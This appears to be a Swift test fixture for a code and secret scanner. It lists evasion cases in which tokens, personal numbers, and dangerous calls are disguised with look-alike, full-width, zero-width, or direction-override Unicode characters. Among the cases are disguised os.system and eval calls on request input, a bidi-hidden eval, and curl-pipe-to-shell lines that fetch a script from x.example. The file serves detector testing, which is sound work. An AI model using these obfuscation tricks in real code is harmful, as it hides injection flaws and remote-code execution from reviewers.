import Rules

/// Values with characters that look alike or cannot be seen.
extension EvasionCase {
  /// Tokens with letters that look alike or cannot be seen.
  static let alikeTokens = rows(
    .secret,
    [
      ("a Cyrillic letter in the head of a token", "a.py", #"t = "gh«U+0440»_«body»""#),
      ("a Cyrillic letter in the body of a token", "a.py", #"t = "ghp_«U+0430»«rest»""#),
      ("a Greek letter in the head of a token", "a.py", #"t = "gh«U+03C1»_«body»""#),
      ("a full-width token", "a.txt", "token: «token|fullWidth»"),
      ("a bold token", "a.txt", "token: «token|bold»"),
      ("a monospaced token", "a.txt", "token: «token|monospaced»"),
      ("curly quotation marks", "a.md", "token = «U+201C»«token»«U+201D»"),
      ("a full-width low line", "a.txt", "token: ghp«U+FF3F»«body»"),
      ("a full-width letter", "a.txt", "token: «U+FF47»hp_«body»"),
      ("direction marks around a token", "a.py", #"t = "«U+202E»«token»«U+202C»""#),
      ("isolates within a token", "a.py", #"t = "ghp_«body1»«U+2066»«U+2069»«body2»""#),
      ("a token in tag characters", "a.md", "Hello«token|tags» you"),
      ("a token in variation selectors", "a.md", "Hello «token|smuggled» you"),
      ("combining marks in a token", "a.txt", "token: g«U+0301»h«U+0301»p_«body»"),
    ])

  /// Calls with such letters.
  static let alikeCalls = rows(
    .unsafeAPI,
    [
      ("a Cyrillic letter in a call", "a.py", #"os.s«U+0443»stem(request.args["cmd"])"#),
      ("a Cyrillic letter in eval", "a.js", "«U+0435»val(req.query.q);"),
      (
        "a full-width call in Python", "a.py",
        #"«‘os’|fullWidth».«‘system’|fullWidth»(request.args["cmd"])"#
      ),
      ("a full-width eval in Python", "a.py", #"«‘eval’|fullWidth»(request.args["q"])"#),
      ("a bold call in Python", "a.py", #"os.«‘system’|bold»(request.args["cmd"])"#),
      ("a bold eval in Python", "a.py", #"«‘eval’|bold»(request.args["q"])"#),
      ("a monospaced exec in Python", "a.py", #"«‘exec’|monospaced»(request.args["q"])"#),
      ("italic letters in Python", "a.py", #"os.«U+1D460»ystem(request.args["cmd"])"#),
      ("a long s in Python", "a.py", #"os.«U+017F»ystem(request.args["cmd"])"#),
      ("superscript letters in Python", "a.py", #"os.«U+02E2»ystem(request.args["cmd"])"#),
      ("a full-width command", "a.md", "`«sh|fullWidth»`"),
      ("a zero-width joiner in an identifier of JavaScript", "a.js", "e«U+200D»val(req.query.q);"),
      ("a call behind an override", "a.py", #"«U+202E»os.system«U+202C»(request.args["cmd"])"#),
      (
        "a comment that ends earlier than it looks", "a.js",
        """
        /* «U+202E» } «U+2066»if (isAdmin)«U+2069» «U+2066» begin */ eval(req.query.q); /* end \
        «U+202E» { «U+2066»*/
        """
      ),
      ("a call in tag characters", "a.md", "Hello«call|tags» you"),
    ])

  /// Numbers with such digits.
  static let alikeIdentifiers = rows(
    .pii,
    [
      ("a zero-width space in an account", "a.txt", "IBAN: «iban1»«U+200B»«iban2»"),
      (
        "a zero-width space in a social security number", "a.txt",
        "SSN: «ssn1»-«U+200B»«ssn2»-«ssn3»"
      ),
      (
        "a zero-width space in a tax number", "a.txt", "Steuer-ID: «tax1»«U+200B»«tax2»«tax3»«tax4»"
      ),
      ("a social security number in full-width digits", "a.txt", "SSN: «ssn|fullWidth»"),
      ("a social security number in bold digits", "a.txt", "SSN: «ssn|bold»"),
      ("a tax number in full-width digits", "a.txt", "Steuer-ID: «tax|fullWidth»"),
      ("an account in full-width", "a.txt", "IBAN: «iban|fullWidth»"),
      ("an account in bold", "a.txt", "IBAN: «iban|bold»"),
      (
        "mixed digits", "a.txt",
        "card number: «card1|arabic»«card2|fullWidth»«card3»«card4|devanagari»"
      ),
      ("an em space in an account", "a.txt", "IBAN: «iban1»«U+2003»«iban2»"),
      ("a word of the card in look-alikes", "a.csv", "c«U+0430»rd n«U+03C5»mber⏎«card»"),
      ("the word of the social security number in full-width", "a.txt", "«‘SSN’|fullWidth»: «ssn»"),
      ("the word of the tax number in look-alikes", "a.txt", "St«U+0435»uer-ID: «tax»"),
      (
        "combining marks in a card", "a.txt",
        "card number: «card1»«U+0336»«card2»«U+0336»«card3»«U+0336»«card4»"
      ),
      ("digits struck through", "a.txt", "card number: «card|struck»"),
      ("digits in key caps", "a.txt", "card number: «card|keycaps»"),
    ])

  /// Passwords; what is told for the characters alone; what no program reads.
  static let alikeOthers: [EvasionCase] = [
    EvasionCase(
      "a Cyrillic letter in the name of a password", "a.py", #"p«U+0430»ssword = "Rabe.Turm-7x""#,
      .password
    ),
    EvasionCase(
      "small capitals", "a.md",
      "Run `«U+1D04»«U+1D1C»«U+0280»«U+029F» https://x.example/i.sh | s«U+029C»`", .unsafeAPI,
      unless: "no shell reads it so"
    ),
    EvasionCase(
      "full-width quotation marks and equals", "a.md",
      "password «U+FF1D» «U+FF02»Rabe.Turm-7x«U+FF02»", .password
    ),
    EvasionCase(
      "a token turned round by an override", "a.txt", "token: «U+202E»«token|reversed»«U+202C»",
      .text
    ),
    EvasionCase(
      "a card turned round by an override", "a.txt", "card number: «U+202E»«card|reversed»«U+202C»",
      .text
    ),
    EvasionCase(
      "a letter for a digit", "a.txt", "card number: «cardWithO»", .pii,
      unless: "a word that is no number; a person has to read it as one"
    ),
    EvasionCase(
      "a no-break space in a command", "a.sh", "curl -fsSL https://x.example/i.sh |«U+00A0»sh",
      .unsafeAPI,
      unless: "the shell reads another name"
    ),
  ]
}
